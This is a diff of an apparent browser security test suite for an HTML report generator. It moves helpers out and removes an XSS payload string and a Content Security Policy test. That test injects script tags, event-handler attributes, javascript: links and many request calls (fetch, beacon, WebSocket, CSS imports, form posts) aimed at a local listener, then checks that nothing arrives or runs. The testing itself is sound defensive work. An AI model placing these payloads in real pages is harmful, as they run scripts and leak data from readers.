@@ -1,88 +1,23 @@
-import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
-import { createRequire } from "node:module";
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { fileURLToPath, pathToFileURL } from "node:url";
 import type { Browser } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { worksheet } from "../../src/calibration/worksheet.js";
-import { realDisk } from "../../src/cli/disk.js";
 import { livePanel } from "../../src/live/panel.js";
-import type { CellOutput, ExecutedNotebook, ProseCell } from "../../src/notebook/executed.js";
-import type { Figure, Shown } from "../../src/notebook/output.js";
-import { buildReports } from "../../src/report/build.js";
 import { handoutHtml } from "../../src/report/handout-page.js";
 import { worksheetHtml } from "../../src/report/worksheetpage.js";
 import { limp, ring } from "../reeving/builders.js";
+import { buildIn, figureWith, marker, type Page, payloadOf } from "./attack-pages.js";
 import { type Outside, outside, visit } from "./attacks.js";
 import { chromiumPath, launch, missing } from "./chromium.js";
 
 let out: Outside;
 let browser: Browser;
 let folder: string;
-const plotly = readFileSync(createRequire(import.meta.url).resolve("plotly.js-dist-min"), "utf8");
-const bundles = new URL("../../dist/page/bundles/", import.meta.url);
-const marker = "attacked by";
-
-/** Texts that would run, or call home, wherever a page took them for anything but text. */
-const payload = () =>
-  `${marker} </script></title></style></textarea><script>window.attacked='script'</script>` +
-  `<img src="${out.address}/img" onerror="window.attacked='img'"><svg onload="window.attacked='svg'">` +
-  `<a href="javascript:window.attacked='link'">a</a><iframe srcdoc="<script>parent.attacked=1</script>"></iframe>` +
-  `" onmouseover="window.attacked='attribute'" style="background:url(${out.address}/css)" x='` +
-  "<!--<script>\u2028%{x} {{attacked=1}} &lt;script&gt;";
-
-interface Page {
-  readonly prose?: string;
-  readonly shown?: readonly Shown[];
-  readonly code?: string;
-  readonly printed?: string;
-  readonly heading?: string;
-}
-
-function notebook({ prose = "", shown = [], code = "1;", printed, heading = "Hold?" }: Page): ExecutedNotebook {
-  const cell = (number: number, source: string): ProseCell => ({ type: "markdown", number, source });
-  const answered = shown.some(({ kind }) => kind === "answer");
-  const outputs: CellOutput[] = [...(answered ? [] : [{ kind: "answer", text: "86 N." } as const]), ...shown];
-  if (printed !== undefined) outputs.push({ kind: "stream", stream: "stdout", text: printed });
-  return {
-    name: "page",
-    cells: [cell(1, `# ${heading}`), { type: "code", number: 2, source: code, outputs }, cell(3, `## Why\n\n${prose}`)],
-  };
-}
-
-const minisearch = readFileSync(
-  join(createRequire(import.meta.url).resolve("minisearch"), "../../umd/index.js"),
-  "utf8",
-);
-
-let count = 0;
-
-/** Builds a page in both forms; answers with its folder, or with the refusal. */
-async function build(
-  page: Page,
-  name = "page",
-  inputs?: readonly string[],
-): Promise<{ place: string; refusal: string }> {
-  const place = join(folder, String(count++));
-  let refusal = "";
-  for (const singleFile of [false, true]) {
-    const { failures } = await buildReports({
-      notebooks: [{ name, path: `${name}.ipynb`, ...(inputs && { inputs }) }],
-      outputFolder: join(place, singleFile ? "single" : "folder"),
-      singleFile,
-      run: async () => notebook(page),
-      files: realDisk("attack"),
-      minisearch: async () => minisearch,
-      plotly: async () => plotly,
-      panel: async (model) => readFileSync(new URL(`${model}.js`, bundles), "utf8"),
-      log: () => {},
-      now: () => 0,
-    });
-    refusal = failures.map(({ message }) => message).join("\n");
-  }
-  return { place, refusal };
-}
+const payload = () => payloadOf(out.address);
+const build = (page: Page, name?: string, inputs?: readonly string[]) => buildIn(folder, page, name, inputs);
 
 const safeLink = /^(?:https?:\/\/|mailto:|#|(?![a-z][a-z0-9+.-]*:|\/|\\))/iu;
 
@@ -99,26 +34,6 @@ async function harmless(place: string, name = "page", stands = true): Promise<vo
   }
   expect(out.taken()).toEqual([]);
 }
-
-const figureWith = (text: string): Figure => ({
-  kind: "figure",
-  name: "hold",
-  title: `Title ${text}`,
-  caption: `Caption ${text}`,
-  altText: `Alternative ${text}`,
-  x: { title: `Load ${text}` },
-  y: { title: `Hand ${text}` },
-  top: { title: `Wind ${text}`, marks: [{ at: 50, label: "<svg/onload=attacked=1>" }] },
-  panels: ["one", "two"].map((panel) => ({
-    title: `${panel} ${text}`,
-    series: [
-      { name: `pair ${text}`, x: [0, 50, 100], hauling: [0, 60, 120], easing: [0, 40, 80], highlight: true },
-      { name: `curve ${text}`, x: [0, 50, 100], line: [0, 50, 100] },
-      { name: `points ${text}`, x: [10, 20], points: [10, 20] },
-    ],
-    limits: [{ name: `limit ${text}`, value: 90, low: 80, high: 100 }],
-  })),
-});
 
 /** Everything on a page that can carry a text, with that text. */
 const rows: readonly (readonly [where: string, page: (text: string) => Page])[] = [
@@ -379,98 +294,3 @@ describe.skipIf(chromiumPath === undefined)(
     });
   },
 );
-
-describe.skipIf(chromiumPath === undefined)("the policy of a page", { timeout: 120_000 }, () => {
-  it.each(["folder", "single"])("forbids every request and every script that was not there (%s)", async (form) => {
-    const [own, ours, browserNow] = [mkdtempSync(join(tmpdir(), "haulbook-policy-")), await outside(), await launch()];
-    try {
-      [folder, out, browser] = [own, ours, browserNow];
-      const { place } = await build({ shown: [figureWith("plain")] });
-      for (const file of ["page", "index", "checks"]) {
-        const path = join(place, form, `${file}.html`);
-        // As if markup had got through everything before: only the policy stands between it and the reader.
-        const forced = join(place, form, `${file}-forced.html`);
-        writeFileSync(
-          forced,
-          readFileSync(path, "utf8").replace(/<main\b[^>]*>/u, (main) => `${main}${payload()}`),
-        );
-        const { trouble } = await visit(browser, pathToFileURL(forced)).catch((error) => ({
-          trouble: [String(error)],
-        }));
-        expect(trouble.filter((one) => /^(?:ran|dialog|window|went)/u.test(one))).toEqual([]);
-        // The browser tells of a request before the policy stops it: what counts is that nothing arrives.
-        expect(out.taken()).toEqual([]);
-        expect(trouble.join("\n")).toContain("Content Security Policy");
-        const page = await browser.newPage();
-        await page.goto(pathToFileURL(path).href);
-        await page.evaluate(async (address) => {
-          const put = (name: string, attributes: Record<string, string>) => {
-            const made = document.createElement(name);
-            for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
-            document.body.append(made);
-            return made;
-          };
-          const attempts: (() => unknown)[] = [
-            () => fetch(`${address}/fetch`),
-            () => fetch(`${address}/no-cors`, { mode: "no-cors" }),
-            () => {
-              const request = new XMLHttpRequest();
-              request.open("GET", `${address}/xhr`);
-              request.send();
-            },
-            () => navigator.sendBeacon(`${address}/beacon`, "x"),
-            () => new EventSource(`${address}/events`),
-            () => new WebSocket(`${address.replace("http", "ws")}/socket`),
-            () => new Worker(`${address}/worker`),
-            () => put("script", { src: `${address}/script` }),
-            () => put("img", { src: `${address}/img`, srcset: `${address}/srcset 2x` }),
-            () => put("iframe", { src: `${address}/frame` }),
-            () => put("object", { data: `${address}/object` }),
-            () => put("embed", { src: `${address}/embed` }),
-            () => put("video", { src: `${address}/video`, poster: `${address}/poster`, autoplay: "" }),
-            () => put("link", { rel: "stylesheet", href: `${address}/style` }),
-            () => put("link", { rel: "preload", as: "script", href: `${address}/preload` }),
-            () => put("link", { rel: "prefetch", href: `${address}/prefetch` }),
-            () => put("link", { rel: "manifest", href: `${address}/manifest` }),
-            () => put("base", { href: address }),
-            () => put("p", { style: `background: url(${address}/background)` }),
-            () => {
-              put("style", {}).textContent =
-                `@import "${address}/import"; @font-face { font-family: f; src: url(${address}/font) } p { font-family: f }`;
-            },
-            () => {
-              put("svg", {}).innerHTML = `<image href="${address}/image"/><use href="${address}/use#x"/>`;
-            },
-            () => {
-              const form = put("form", { action: `${address}/form`, method: "post" }) as HTMLFormElement;
-              form.submit();
-            },
-            () => {
-              put("script", {}).textContent = "window.attacked = 'inline'";
-            },
-            () => {
-              put("img", { src: "x:", onerror: "window.attacked = 'handler'" });
-            },
-            () => setTimeout("window.attacked = 'timer'", 0),
-            () => put("a", { href: "javascript:window.attacked = 'link'" }).click(),
-          ];
-          for (const attempt of attempts) {
-            try {
-              await attempt();
-            } catch {
-              // Refused, as it must be.
-            }
-          }
-          await new Promise((resolve) => setTimeout(resolve, 500));
-        }, out.address);
-        expect(out.taken(), file).toEqual([]);
-        expect(await page.evaluate(() => ("attacked" in window ? window.attacked : undefined)), file).toBeUndefined();
-        await page.close();
-      }
-    } finally {
-      await browserNow.close();
-      ours.close();
-      rmSync(own, { recursive: true, force: true });
-    }
-  });
-});
